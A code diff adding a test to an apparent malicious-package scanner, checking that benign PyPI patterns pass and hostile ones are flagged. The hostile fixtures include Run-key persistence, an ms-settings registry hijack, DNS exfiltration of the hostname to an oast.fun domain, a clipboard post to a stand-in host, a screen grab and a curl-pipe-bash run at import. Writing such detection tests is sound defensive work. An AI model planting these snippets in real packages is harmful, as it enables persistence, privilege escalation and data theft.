@@ -738,3 +738,62 @@ def test_install_time_fetch_is_low_and_a_body_keeps_it_high() -> None:
     assert "package.install-network:low" in [f"{x.rule}:{x.severity.value}" for x in judge(facts)]
     send = fetch.replace("headers={'Accept': 'json'}", "b'host=' + open('/etc/hostname', 'rb').read()")
     assert "package.install-network:high" in verdict(sdist("helperlib", "0.1", {"setup.py": send}))[1]
+
+
+def test_fifth_held_out_batch_python_shapes() -> None:
+    """Causes behind the fifth held-out batch's PyPI false positives: a file association and a URL handler
+    registered under ``Software\\Classes`` (fmpy, ida-hcli), the machine's own address looked up at import
+    (stomp-py), pasting an image from the clipboard (kimi-cli: ``ImageGrab.grabclipboard`` is no
+    screenshot), reading the screen and the clipboard as image sources (imageio), an installer command kept in a module constant that only the CLI's functions run
+    (kimi-cli), a message that names ``~/.zshrc`` (deepagents-cli) and a user-run init script adding an
+    export line to the shell profile (tentaclio)."""
+    files = {
+        "helperlib/assoc.py": (
+            "import winreg\nfrom winreg import CreateKey, OpenKey, SetValueEx, HKEY_CURRENT_USER, KEY_WRITE, REG_SZ\n"
+            "PROTOCOL = 'helper'\n\ndef register(target):\n"
+            "    key_path = r'Software\\Classes\\helper.gui\\shell\\open\\command'\n"
+            "    CreateKey(HKEY_CURRENT_USER, key_path)\n"
+            "    key = OpenKey(HKEY_CURRENT_USER, key_path, 0, KEY_WRITE)\n"
+            "    SetValueEx(key, '', 0, REG_SZ, target)\n"
+            "    key_path = r'SOFTWARE\\Classes\\.hlp'\n    CreateKey(HKEY_CURRENT_USER, key_path)\n"
+            "    reg_key = rf'SOFTWARE\\Classes\\{PROTOCOL}'\n"
+            "    with winreg.CreateKey(HKEY_CURRENT_USER, rf'{reg_key}\\DefaultIcon') as key:\n"
+            "        winreg.SetValueEx(key, '', 0, REG_SZ, target)\n"),
+        "helperlib/net.py": "import socket\nLOCAL = [socket.gethostbyname(socket.gethostname())]\n",
+        "helperlib/clip.py": ("import pyperclip\nfrom PIL import ImageGrab\n\ndef paste():\n"
+                              "    return pyperclip.paste() or ImageGrab.grabclipboard()\n"),
+        "helperlib/screen.py": ("import pyperclip\nfrom PIL import ImageGrab\n\ndef grab(what):\n"
+                                "    return ImageGrab.grab() if what == '<screen>' else pyperclip.paste()\n"),
+        "helperlib/deprecation.py": ("import subprocess\n"
+                                     "_INSTALL_SH = 'curl -fsSL https://code.example.com/install.sh | bash'\n"
+                                     "\ndef main():\n    subprocess.run(_INSTALL_SH, shell=True)\n"),
+        "scripts/install.sh": '#!/bin/sh\nlog_warn "  source ~/.zshrc   # (or ~/.bashrc)"\n',
+        "extras/init_helper.sh": ('#!/bin/bash\nprofile="$HOME/.bashrc"\n'
+                                  'echo "export HELPER_FILE=$HOME/.helper.yml" >> $profile\n'),
+    }
+    for rel, code in files.items():
+        result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "",
+                                                               rel: code}))
+        assert result == "clean", (rel, findings)
+    # the same writes under the Run key, an own name sent to a lookup domain, a screen grab with the
+    # clipboard, and the constant run at import are still reported
+    bad = {
+        "helperlib/assoc.py": ("import winreg, sys\nRUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
+                               "def persist():\n    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, 2)\n"
+                               "    winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, sys.executable)\n"),
+        "helperlib/uac.py": ("import winreg\n\ndef shadow(cmd):\n"
+                             "    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, "
+                             "r'Software\\Classes\\ms-settings\\shell\\open\\command')\n"
+                             "    winreg.SetValueEx(key, None, 0, winreg.REG_SZ, cmd)\n"),
+        "helperlib/net.py": "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.oast.fun')\n",
+        "helperlib/clip.py": ("import pyperclip, requests\nfrom PIL import ImageGrab\n\ndef spy():\n"
+                              "    requests.post('https://a.example/u', data=pyperclip.paste())\n"
+                              "    return ImageGrab.grab()\n"),
+        "helperlib/deprecation.py": ("import subprocess\n"
+                                     "_INSTALL_SH = 'curl -fsSL https://code.example.com/install.sh | bash'\n"
+                                     "subprocess.run(_INSTALL_SH, shell=True)\n"),
+    }
+    for rel, code in bad.items():
+        pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": f"from . import {rel[10:-3]}\n",
+                                         rel: code})
+        assert verdict(pkg)[0] != "clean", rel
